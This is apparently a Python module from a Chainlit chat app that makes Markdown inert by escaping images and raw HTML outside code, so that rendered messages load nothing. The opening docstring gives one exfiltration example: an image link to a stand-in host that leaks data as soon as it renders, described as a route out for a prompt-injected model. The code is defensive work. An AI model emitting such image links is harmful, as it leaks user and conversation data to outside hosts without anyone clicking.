"""Markdown the chat shows from what a model or a person wrote, made inert: nothing in it loads.

Chainlit renders every message as Markdown in the browser, and an image there is
fetched as soon as it shows: a team's claim holding
``![x](http://elsewhere/leak.png?d=...)`` sent whatever the model put in that
address to that host, with nobody clicking (a way out for a prompt-injected model).
``inert_markdown`` escapes the ``!`` of every image (inline or reference-style) and
the ``<`` of every raw HTML tag, comment or declaration (``<img src=...>``,
``<video>``): an image shows as a link with its text, which loads nothing unless
someone clicks it, and a tag shows as it was written (as the chat already shows raw
HTML: ``unsafe_allow_html`` is off). Autolinks (``<https://...>``) stay links.

Code shows as written: ``![`` in a fenced block or a code span loads nothing, so it
is left alone there. Whenever that left anything unescaped, a CommonMark parser (with
GFM's tables, as Chainlit's renderer) reads the result, and if it still finds an
image or raw HTML (say a list item closed a fence the line scanner thought open), the
code spans are escaped too, then everything. The chat's Content-Security-Policy
(``pagepolicy.py``) is the second lock: the browser loads images only from the chat.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from functools import lru_cache

from markdown_it import MarkdownIt
from markdown_it.token import Token

# What starts an image (``![``) or raw HTML (a tag, a closing tag, ``<!--``, ``<!X``, ``<?``);
# an autolink (``<https:...>``, ``<a@b.c>``) has no tag name followed by a space, / or >.
_OPENER = re.compile(r"!(?=\[)|<(?=[A-Za-z][A-Za-z0-9-]*(?:[\s/>]|$)|/[A-Za-z]|[!?])")
_FENCE_OPEN = re.compile(r" {0,3}(`{3,}|~{3,})(.*)")
_FENCE_CLOSE = re.compile(r" {0,3}(`{3,}|~{3,})[ \t]*")
_TICKS = re.compile(r"`+")
_BLANK_LINE = re.compile(r"\n[ \t]*\r?\n")
_LOADS = frozenset({"image", "html_inline", "html_block"})

Span = tuple[int, int]


def _backslashed(text: str, i: int) -> bool:
    """Say whether ``text[i]`` is escaped: an odd number of backslashes right before it."""
    n = 0
    while i - n > 0 and text[i - n - 1] == "\\":
        n += 1
    return n % 2 == 1


def _fences(text: str) -> list[Span]:
    """Return where fenced code blocks lie (an unclosed fence runs to the end, as CommonMark's)."""
    spans: list[Span] = []
    opened: tuple[int, str] | None = None
    pos = 0
    for line in text.split("\n"):
        bare = line.rstrip("\r")
        if opened is None:
            found = _FENCE_OPEN.fullmatch(bare)
            # a backtick fence's info string may hold no backtick (else it is a code span)
            if found and not (found[1][0] == "`" and "`" in found[2]):
                opened = (pos, found[1])
        else:
            start, fence = opened
            found = _FENCE_CLOSE.fullmatch(bare)
            if found and found[1][0] == fence[0] and len(found[1]) >= len(fence):
                spans.append((start, pos + len(line)))
                opened = None
        pos += len(line) + 1
    if opened is not None:
        spans.append((opened[0], len(text)))
    return spans


def _code_spans(text: str, start: int, end: int) -> Iterator[Span]:
    """Yield the code spans of ``text[start:end]``: a backtick run closed by one as long.

    A backslash makes the first backtick of a run text; a span never crosses a blank line.
    """
    runs = [(m.start(), m.end()) for m in _TICKS.finditer(text, start, end)]
    runs = [(a + 1, b) if _backslashed(text, a) else (a, b) for a, b in runs]
    i = 0
    while i < len(runs):
        opened, width = runs[i][1], runs[i][1] - runs[i][0]
        closer = next(
            (j for j in range(i + 1, len(runs)) if runs[j][1] - runs[j][0] == width), None
        )
        if width == 0 or closer is None or _BLANK_LINE.search(text, opened, runs[closer][0]):
            i += 1  # literal backticks
            continue
        yield (runs[i][0], runs[closer][1])
        i = closer + 1


def _code(text: str, fences: list[Span]) -> list[Span]:
    """Return the fenced blocks and the code spans between them."""
    spans = list(fences)
    edges = [0, *(edge for fence in fences for edge in fence), len(text)]
    for start, end in zip(edges[::2], edges[1::2], strict=True):
        spans.extend(_code_spans(text, start, end))
    return spans


def _escape(text: str, keep: list[Span]) -> tuple[str, bool]:
    """Escape every opener outside ``keep``; say whether any inside it was left as it is."""
    out: list[str] = []
    last = 0
    left = False
    for found in _OPENER.finditer(text):
        i = found.start()
        if _backslashed(text, i):
            continue
        if any(start <= i < end for start, end in keep):
            left = True
            continue
        out += [text[last:i], "\\"]
        last = i
    out.append(text[last:])
    return "".join(out), left


@lru_cache(maxsize=1)
def _parser() -> MarkdownIt:
    """CommonMark with GFM's tables and strikethrough, as Chainlit's renderer reads messages."""
    return MarkdownIt("commonmark").enable(["table", "strikethrough"])


def _tokens(tokens: list[Token]) -> Iterator[Token]:
    for token in tokens:
        yield token
        yield from _tokens(token.children or [])


def loads_nothing(markdown: str) -> bool:
    """Say whether ``markdown``, rendered, holds no image and no raw HTML."""
    return not any(t.type in _LOADS for t in _tokens(_parser().parse(markdown)))


def inert_markdown(text: str) -> str:
    """Return ``text`` as Markdown the chat may show: no image, no raw HTML, code as written.

    Every message or step whose text came from a model or a person goes through
    this before Chainlit sends it (``view.py``, ``run_steps.py``, ``conversations.py``,
    ``actions.py``). Applying it twice changes nothing more.
    """
    if _OPENER.search(text) is None:
        return text
    fences = _fences(text)
    for keep in (_code(text, fences), fences):
        shown, left = _escape(text, keep)
        if not left or loads_nothing(shown):
            return shown
    return _escape(text, [])[0]


class InertStream:
    """A streamed reply as the chat shows it: ``inert_markdown`` of all received so far.

    ``catch_up`` says what to send the browser: the new tail when what it shows only
    grew, or the whole text to replace it when a later token changed what went
    before (a closing backtick turns escaped text back into code, say).
    """

    def __init__(self) -> None:
        self.parts: list[str] = []
        self.shown = ""

    @property
    def text(self) -> str:
        """Return the reply as the model wrote it."""
        return "".join(self.parts)

    def add(self, token: str) -> None:
        """Take the next token."""
        self.parts.append(token)

    def catch_up(self) -> tuple[str, bool]:
        """Return what to send (``""`` when nothing changed) and whether it replaces it all."""
        view = inert_markdown(self.text)
        grew = view.startswith(self.shown)
        sent = view[len(self.shown) :] if grew else view
        self.shown = view
        return sent, not grew
